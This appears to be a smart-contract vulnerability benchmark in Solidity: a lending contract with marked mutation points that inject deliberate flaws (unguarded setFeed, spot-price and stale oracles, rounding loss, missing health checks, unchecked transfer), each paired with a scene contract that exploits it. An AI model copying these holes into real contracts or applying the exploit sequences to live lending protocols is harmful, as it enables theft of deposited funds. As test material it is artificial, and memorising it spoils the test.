// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

contract Lending {
    address public governor;
    IERC20 public immutable asset;
    Feed public feed;
    Pair public pair;
    uint256 public totalDebtShares;
    uint256 public totalDebt;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debtShares;

    constructor(IERC20 asset_, Feed feed_, Pair pair_, address governor_) {
        asset = asset_;
        feed = feed_;
        pair = pair_;
        governor = governor_;
    }

    modifier onlyGovernor() {
        require(msg.sender == governor, "not the governor");
        _;
    }

    //[
    function setFeed(Feed next) external onlyGovernor {
    //| access Replace
    //: function setFeed(Feed next) external {
    //]
        feed = next;
    }

    function price() public view returns (uint256) {
        //[
        (uint256 answer, uint256 updatedAt) = feed.latest();
        require(answer > 0 && block.timestamp - updatedAt < 1 days, "no fresh price");
        return answer;
        //| oracle Manipulate
        //: return pair.spot();
        //| oracle Outdated
        //: (uint256 answer, ) = feed.latest();
        //: return answer;
        //]
    }

    function addCollateral() external payable {
        collateral[msg.sender] += msg.value;
    }

    function healthy(address user) public view returns (bool) {
        uint256 owed = totalDebtShares == 0 ? 0 : debtShares[user] * totalDebt / totalDebtShares;
        return owed * 150 <= collateral[user] * price() / 1e18 * 100;
    }

    function borrow(uint256 amount) external {
        //[
        uint256 part = totalDebt == 0 ? amount : (amount * totalDebtShares + totalDebt - 1) / totalDebt;
        //| rounding Nibble
        //: uint256 part = totalDebt == 0 ? amount : amount * totalDebtShares / totalDebt;
        //]
        debtShares[msg.sender] += part;
        totalDebtShares += part;
        totalDebt += amount;
        //[
        require(healthy(msg.sender), "unhealthy");
        //| guard Bare
        //]
        require(asset.transfer(msg.sender, amount), "transfer failed");
    }

    function accrue(uint256 interest) external onlyGovernor {
        totalDebt += interest;
    }

    function repay(uint256 part) external {
        uint256 amount = (part * totalDebt + totalDebtShares - 1) / totalDebtShares;
        //[
        require(asset.transferFrom(msg.sender, address(this), amount), "not paid");
        //| unchecked-call Forgive
        //: asset.transferFrom(msg.sender, address(this), amount);
        //]
        debtShares[msg.sender] -= part;
        totalDebtShares -= part;
        totalDebt -= amount;
    }

    function removeCollateral(uint256 amount) external {
        collateral[msg.sender] -= amount;
        //[
        require(healthy(msg.sender), "unhealthy");
        //| guard Escape
        //]
        payable(msg.sender).transfer(amount);
    }
}

//! scene
contract Scene {
    Coin coin = new Coin();
    Feed feed = new Feed();
    Pair pair = new Pair(1e6, 2e6);
    Actor ann = new Actor();
    Lending target = new Lending(IERC20(address(coin)), feed, pair, address(ann));

    constructor() {
        coin.mint(address(target), 1e24);
        feed.set(2e18, block.timestamp);
    }

    receive() external payable {}
}

contract Use is Scene {
    function run() external payable returns (bool) {
        target.addCollateral{value: 3 ether}();
        target.borrow(2 ether);
        bool ok = ann.act(address(target), abi.encodeCall(Lending.accrue, (1 ether)));
        coin.mint(address(this), 1 ether);
        target.repay(2 ether);
        target.removeCollateral(3 ether);
        ok = ok && ann.act(address(target), abi.encodeCall(Lending.setFeed, (Feed(address(this)))));
        return ok && target.totalDebt() == 0 && coin.balanceOf(address(target)) == 1e24 + 1 ether && address(target.feed()) == address(this);
    }
}

contract Replace is Scene {
    function run() external payable returns (bool) {
        Feed own = new Feed();
        own.set(1e30, block.timestamp);
        target.setFeed(own);
        target.addCollateral{value: 1}();
        target.borrow(1e11);
        return true;
    }
}

contract Manipulate is Scene {
    function run() external payable returns (bool) {
        target.addCollateral{value: 1 ether}();
        pair.trade(1, 1e6);
        target.borrow(1000 ether);
        return coin.balanceOf(address(this)) == 1000 ether;
    }
}

contract Outdated is Scene {
    function run() external payable returns (bool) {
        feed.set(50e18, block.timestamp > 2 days ? block.timestamp - 2 days : 0);
        target.addCollateral{value: 1 ether}();
        target.borrow(30 ether);
        return block.timestamp > 1 days;
    }
}

contract Nibble is Scene {
    function run() external payable returns (bool) {
        ann.act{value: 5 ether}(address(target), abi.encodeCall(Lending.addCollateral, ()));
        ann.act(address(target), abi.encodeCall(Lending.borrow, (1 ether)));
        ann.act(address(target), abi.encodeCall(Lending.accrue, (4 ether)));
        for (uint256 i; i < 5; i++) target.borrow(4);
        return coin.balanceOf(address(this)) == 20;
    }
}

contract Bare is Scene {
    function run() external payable returns (bool) {
        target.borrow(100 ether);
        return coin.balanceOf(address(this)) == 100 ether;
    }
}

contract Forgive is Scene {
    function run() external payable returns (bool) {
        target.addCollateral{value: 3 ether}();
        target.borrow(2 ether);
        coin.mint(address(this), 0);
        coin.transfer(address(0xb01), 2 ether);
        target.repay(2 ether);
        target.removeCollateral(3 ether);
        return true;
    }
}

contract Escape is Scene {
    function run() external payable returns (bool) {
        target.addCollateral{value: 3 ether}();
        target.borrow(2 ether);
        target.removeCollateral(3 ether);
        return true;
    }
}
